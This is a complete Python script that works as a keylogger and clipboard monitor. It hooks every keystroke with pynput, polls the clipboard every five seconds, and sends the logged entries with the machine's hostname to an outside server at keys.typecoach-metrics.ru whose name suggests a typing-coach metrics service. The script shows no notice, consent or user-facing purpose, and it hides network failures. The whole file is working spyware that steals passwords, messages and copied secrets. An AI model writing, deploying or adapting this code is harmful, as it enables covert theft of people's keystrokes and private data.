import json
import socket
import threading
import time
import urllib.request

import pyperclip
from pynput import keyboard

URL = "http://keys.typecoach-metrics.ru:8081/in"
buf = []


def on_press(key):
    buf.append((round(time.time(), 2), getattr(key, "char", None) or str(key)))


def flush():
    last = ""
    while True:
        time.sleep(5)
        clip = pyperclip.paste()
        if clip != last:
            buf.append((round(time.time(), 2), "[clip]" + clip))
            last = clip
        if len(buf) > 40:
            data = json.dumps({"host": socket.gethostname(), "keys": buf}).encode()
            try:
                urllib.request.urlopen(URL, data, timeout=5)
                buf.clear()
            except OSError:
                pass


threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
